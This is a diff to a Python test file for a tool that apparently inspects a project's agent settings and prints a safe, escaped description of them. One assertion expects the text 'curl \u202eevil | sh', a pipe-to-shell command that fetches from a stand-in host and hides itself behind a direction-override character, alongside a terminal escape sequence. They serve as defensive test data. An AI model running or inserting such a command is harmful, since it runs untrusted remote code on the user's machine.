@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import json
+import re
 import subprocess
 import sys
 import time
@@ -38,11 +39,17 @@ def project(tmp_path: Path) -> Path:
 def test_r24_r33_the_description_lists_everything_by_content(project: Path, columns: int):
     text = describe(inspect(project), "", columns, Colour.PLAIN)
     assert max(map(len, text.split("\n"))) <= columns
-    joined = text.replace("\n", "")
+    joined = re.sub(r"\n *", "", text)
     for part in ["curl \\u202eevil | sh", "model: theirs", "Be \\x1b[2Jnice.", "tool deploy"]:
         assert part in joined
     assert "invisible characters" in joined
     assert "61 more lines" in joined
+
+
+def test_r37_a_long_line_of_a_project_is_not_taken_for_opta_s_own_words(tmp_path: Path):
+    (tmp_path / "AGENTS.md").write_text(f"{'x' * 75} tool harmless (x.json) runs:\n")
+    text = describe(inspect(tmp_path), "", 80, Colour.PLAIN)
+    assert "\n    tool harmless (x.json) runs:" in text
 
 
 def test_a_change_is_shown_as_a_diff(project: Path):
